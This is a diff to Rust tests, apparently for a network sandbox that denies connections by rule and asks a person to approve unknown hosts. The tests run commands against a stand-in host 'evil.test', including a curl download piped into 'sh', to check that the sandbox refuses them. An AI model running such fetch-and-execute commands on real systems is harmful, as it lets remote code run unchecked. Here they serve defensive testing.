@@ -159,6 +159,12 @@ async fn what_is_not_allowed_is_refused_at_once_and_says_why() {
     let told = denials(&evil);
     assert!(evil.ran().0 != 0 && told.contains("evil.test:80") && told.contains("it is evil"), "{evil:?}");
     assert!(told.contains("default.rules:2") && told.contains("curl"), "{told}");
+    // Who waits for its connection does not get one, and does not try again.
+    let waits = client.run_within("wget -O- http://evil.test/", Duration::from_secs(30)).await;
+    assert!(
+        !is_installed("wget") || waits.ran().0 == 4 && waits.ran().1.contains("Connection refused"),
+        "{waits:?}"
+    );
     // Nobody can be asked about what no rule speaks about.
     let unknown = client.run("curl -sS -m 20 http://unknown.test/").await;
     let told = denials(&unknown);
@@ -279,7 +285,7 @@ async fn a_flag_allows_a_host() {
 #[tokio::test]
 async fn a_person_is_asked_while_the_connection_waits() {
     let world = World::with_rules("");
-    let person = Person::answering([Answer::Accept, Answer::Deny]);
+    let person = Person::answering([Answer::Accept, Answer::Deny, Answer::Deny]);
     let arguments = ["--allow-host", "unused.test"];
     let Some(client) = client(&world, &person, &arguments).await else { return };
     let script = "curl -sS http://good.test/ & curl -sS http://good.test/ & wait";
@@ -288,8 +294,14 @@ async fn a_person_is_asked_while_the_connection_waits() {
     let asked = person.asked();
     assert_eq!(asked.len(), 1, "{asked:?}");
     assert!(asked[0].contains("connect to `good.test:80`") && asked[0].contains("curl"), "{asked:?}");
-    let outcome = client.run("curl -sS http://evil.test/").await;
-    assert!(outcome.ran().0 != 0 && denials(&outcome).contains("a person said no"), "{outcome:?}");
+    assert!(!asked[0].contains("Started by"), "by the command's own shell: {asked:?}");
+    let outcome = client.run("env curl -sS http://evil.test/ | sh -c 'cat; :'").await;
+    assert!(denials(&outcome).contains("a person said no"), "{outcome:?}");
+    let outcome = client.run("sh -c 'curl -sS http://sub.good.test/; :' & wait").await;
+    assert!(denials(&outcome).contains("a person said no"), "{outcome:?}");
+    let asked = person.asked();
+    let started: Vec<&str> = asked[2].lines().filter(|line| line.starts_with("Started by")).collect();
+    assert!(started.len() == 1 && started[0].contains("-c curl -sS http://sub.good.test/; :"), "{asked:?}");
 }
 
 #[tokio::test]
